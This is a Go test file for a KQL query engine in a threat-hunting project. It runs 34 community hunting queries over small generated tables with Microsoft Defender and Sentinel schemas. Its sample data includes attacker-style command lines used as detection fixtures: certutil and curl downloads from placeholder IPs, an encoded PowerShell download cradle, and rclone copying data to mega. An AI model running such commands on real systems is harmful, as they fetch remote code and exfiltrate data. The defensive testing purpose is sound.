package kql_test

import (
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"offhunt/detect/data"
	"offhunt/detect/kql"
	"offhunt/detect/logs"
)

// The real-queries test runs the community hunting queries of
// shared/kql/queries/ unchanged over small generated tables with
// Microsoft's schemas: every one must compile and run.

// realQueryTables are the tables the saved queries read.
var realQueryTables = []string{
	"DeviceProcessEvents", "DeviceNetworkEvents", "DeviceFileEvents", "DeviceEvents",
	"DeviceTvmSoftwareInventory", "SecurityEvent", "Event",
}

// realQueryNow is the now of the runs; the generated events lie before it.
const realQueryNow = "2025-09-10T00:00:00Z"

// sampleStrings are plausible values by column name, one per generated
// row, chosen so that the hunts' filters let some rows through.
var sampleStrings = map[string][]string{
	"DeviceName":    {"ws1.corp.local", "ws2.corp.local", "devicename.tld"},
	"DeviceId":      {"d1", "d2", "d3"},
	"Computer":      {"ws1.corp.local", "ws2.corp.local", "dc1.corp.local"},
	"ActionType":    {"ConnectionSuccess", "ProcessCreated", "FileCreated"},
	"FileName":      {"rclone.exe", "powershell.exe", "certutil.exe"},
	"FolderPath":    {`C:\Users\Public\rclone.exe`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `C:\Program Files\TeamViewer\TeamViewer.exe`},
	"AccountName":   {"alice", "bob", "system"},
	"AccountDomain": {"corp", "corp", "nt authority"},
	"AccountUpn":    {"alice@corp.example", "bob@corp.example", ""},
	"ProcessCommandLine": {
		"rclone.exe copy C:\\data mega:bucket --ignore-existing --auto-confirm -password x user=alice *",
		"powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAiAGgAdAB0AHAAOgAvAC8AeAAvAGEAIgApAA==",
		"certutil.exe -urlcache -f http://203.0.113.7/a.exe a.exe && 7z.exe a -mx9 C:\\ProgramData\\pst\\x.7z -pS3cret curl steg",
	},
	"InitiatingProcessCommandLine":  {"cmd.exe /c whoami", "powershell.exe -encodedcommand AAAA", "curl.exe -o a.exe https://203.0.113.9/a.exe"},
	"InitiatingProcessFileName":     {"cmd.exe", "teamviewer.exe", "curl.exe"},
	"InitiatingProcessAccountName":  {"alice", "bob", "system"},
	"InitiatingProcessAccountSid":   {"S-1-5-21-1", "S-1-5-18", "S-1-5-21-2"},
	"ProcessVersionInfoProductName": {"Rclone", "Microsoft Windows", "Rclone"},
	"RemoteUrl":                     {"https://mega.nz/file/abc", "mail.google.com", "https://dropbox.com/s/x"},
	"RemoteIP":                      {"203.0.113.7", "10.0.0.5", "198.51.100.1"},
	"LocalIPType":                   {"Private", "Private", "Public"},
	"RemoteIPType":                  {"Public", "Public", "Private"},
	"SoftwareName":                  {"curl", "7-zip", "curl"},
	"SoftwareVersion":               {"8.1.2", "23.01", "7.88.1"},
	"SoftwareVendor":                {"curl", "igor_pavlov", "haxx"},
	"Account":                       {`CORP\alice`, `CORP\bob`, `NT AUTHORITY\SYSTEM`},
	"SubjectUserName":               {"alice", "bob", "SYSTEM"},
	"SubjectUserSid":                {"S-1-5-21-1", "S-1-5-21-2", "S-1-5-18"},
	"SubjectDomainName":             {"CORP", "CORP", "NT AUTHORITY"},
	"SubjectMachineName":            {"ws1", "ws2", "dc1"},
	"Process":                       {"cmd.exe", "powershell.exe", "svchost.exe"},
	"NewProcessName":                {`C:\Windows\System32\cmd.exe`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `C:\Users\Public\svchost.exe`},
	"ParentProcessName":             {`C:\Windows\System32\certutil.exe`, `C:\Windows\explorer.exe`, `C:\Windows\System32\services.exe`},
	"CommandLine": {
		"cmd.exe /c nltest.exe /dclist:corp.local & curl http://203.0.113.7/x",
		"powershell.exe -c (New-Object Net.WebClient).DownloadFile('http://198.51.100.1/a','a')",
		"C:\\Users\\Public\\svchost.exe -k netsvcs",
	},
	"Source":              {"Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon", "Service Control Manager"},
	"EventLog":            {"Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon/Operational", "System"},
	"UserName":            {`CORP\alice`, `CORP\bob`, `NT AUTHORITY\SYSTEM`},
	"RenderedDescription": {"Process Create: RuleName: technique_id=T1105", "Process Create: RuleName: -", "The service entered the running state."},
	"EventData": {
		`<DataItem type="System.XmlNode" time="2025-09-09T22:00:00Z" sourceHealthServiceId="0" type="System.XmlNode"><EventData xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><Data Name="RuleName">technique_id=T1105,technique_name=Ingress Tool Transfer</Data><Data Name="Image">C:\Windows\System32\certutil.exe</Data><Data Name="CommandLine">certutil -urlcache -f http://203.0.113.7/a.exe a.exe</Data></EventData></DataItem>`,
		`<DataItem type="System.XmlNode"><EventData xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><Data Name="RuleName">-</Data><Data Name="Image">C:\Windows\System32\cmd.exe</Data></EventData></DataItem>`,
		"",
	},
	"EventLevelName": {"Information", "Information", "Error"},
}

// sampleValue gives a plausible value for row i of a column.
func sampleValue(table string, c data.Column, i int, now int64) data.Value {
	if vals, ok := sampleStrings[c.Name]; ok && c.Type == data.String {
		return data.NewString(vals[i%len(vals)])
	}
	switch c.Type {
	case data.DateTime:
		// 2 hours, 3 days and 20 days before now: inside and outside the
		// hunts' windows.
		ago := []int64{2 * data.TicksPerHour, 3 * data.TicksPerDay, 20 * data.TicksPerDay}
		return data.NewDateTime(now - ago[i%len(ago)])
	case data.String:
		return data.NewString(fmt.Sprintf("%s-%d", strings.ToLower(c.Name), i))
	case data.Long:
		return data.NewLong(int64(1000 + i))
	case data.Int:
		switch {
		case c.Name == "EventID" && table == "SecurityEvent":
			return data.NewInt(4688)
		case c.Name == "EventID":
			return data.NewInt(1)
		case strings.HasSuffix(c.Name, "Port"):
			return data.NewInt(int64(443 + i))
		}
		return data.NewInt(int64(i))
	case data.Real, data.Decimal:
		return data.NewReal(1.5 + float64(i))
	case data.Bool:
		return data.NewBool(i%2 == 1)
	case data.TimeSpan:
		return data.NewTimeSpan(int64(i+1) * data.TicksPerHour)
	case data.Guid:
		return data.NewGuid(fmt.Sprintf("00000000-0000-0000-0000-%012d", i))
	case data.Dynamic:
		b := data.NewBag(1)
		b.Set("Key", data.NewString(fmt.Sprintf("v%d", i)))
		return data.NewBagValue(b)
	}
	return data.Null
}

// sampleTable makes a small table with a schema from logs.Schema.
func sampleTable(t *testing.T, name string, now int64) *data.Table {
	t.Helper()
	cols, ok := logs.Schema(name)
	if !ok {
		t.Fatalf("logs.Schema(%q) is not known", name)
	}
	tab := &data.Table{Name: name, Columns: cols}
	for i := 0; i < 3; i++ {
		row := make(data.Row, len(cols))
		for j, c := range cols {
			row[j] = sampleValue(name, c, i, now)
		}
		tab.Rows = append(tab.Rows, row)
	}
	return tab
}

// externalSamples are the files the queries' externaldata URLs name, by
// the last segment of the URL: a few lines each.
var externalSamples = map[string][]map[string]string{
	"lolbas.csv":       {{"Binary": "certutil.exe"}, {"Binary": "bitsadmin.exe"}},
	"lots-project.txt": {{"Data": "# Website,Tags,ServiceProvider"}, {"Data": "mega.nz,Exfiltration,Mega"}, {"Data": "dropbox.com,Download,Dropbox"}},
	"rmm_tools.csv": {
		{"Name": "AnyDesk", "InstallationPaths": `C:\Program Files (x86)\AnyDesk\AnyDesk.exe, AnyDesk.exe`},
		{"Name": "TeamViewer", "InstallationPaths": `C:\Program Files\TeamViewer\TeamViewer.exe`},
	},
}

// sampleExternalData resolves externaldata the way the caller of the
// engine does: by the URL's last segment, with the declared columns.
func sampleExternalData(u string, cols []data.Column, with map[string]string) (data.Source, error) {
	name := lastURLSegment(u)
	rows, ok := externalSamples[name]
	if !ok {
		return nil, fmt.Errorf("externaldata: no file named %q was supplied for %s", name, u)
	}
	tab := &data.Table{Name: name, Columns: cols}
	for i, r := range rows {
		row := make(data.Row, len(cols))
		for j, c := range cols {
			if s, ok := r[c.Name]; ok {
				row[j] = data.NewString(s)
			} else {
				row[j] = sampleValue(name, c, i, 0)
			}
		}
		tab.Rows = append(tab.Rows, row)
	}
	return data.TableSource{T: tab}, nil
}

// realQueryMayFail lists queries that may fail instead of running, and the
// text their error must contain.
var realQueryMayFail = map[string]string{
	// The ASIM parser imProcessCreate is a Sentinel workspace function,
	// not a table; the query unions it with isfuzzy=true.
	"Azure_Azure-Sentinel__Solutions__Endpoint_Threat_Protection_Essentials__Hunting_Queries__UnicodeObfuscationInCommandLine.kql": "imProcessCreate",
}

func TestRealQueries(t *testing.T) {
	dir := requireShared(t, filepath.Join("kql", "queries"))
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	var files []string
	for _, e := range entries {
		if !e.IsDir() && strings.HasSuffix(e.Name(), ".kql") {
			files = append(files, e.Name())
		}
	}
	sort.Strings(files)
	now, err := parseDateTimeText(realQueryNow)
	if err != nil {
		t.Fatal(err)
	}
	env := &kql.Env{Now: now, ExternalData: sampleExternalData}
	for _, name := range realQueryTables {
		env.Tables = append(env.Tables, data.TableSource{T: sampleTable(t, name, now)})
	}
	ran := 0
	for _, f := range files {
		src, err := os.ReadFile(filepath.Join(dir, f))
		if err != nil {
			t.Fatal(err)
		}
		results, compiled, err := compileAndRun(string(src), env)
		if err != nil {
			if want, ok := realQueryMayFail[f]; ok && strings.Contains(err.Error(), want) {
				t.Logf("%s: fails as allowed: %v", f, err)
				continue
			}
			phase := "compile"
			if compiled {
				phase = "run"
			}
			t.Errorf("%s: %s error: %v", f, phase, err)
			continue
		}
		ran++
		rows := 0
		if len(results) > 0 && results[len(results)-1].Table != nil {
			rows = len(results[len(results)-1].Table.Rows)
		}
		t.Logf("%s: ran, %d rows", f, rows)
	}
	t.Logf("real queries: %d/%d ran", ran, len(files))
	if len(files) != 34 {
		t.Errorf("found %d query files, want 34", len(files))
	}
}
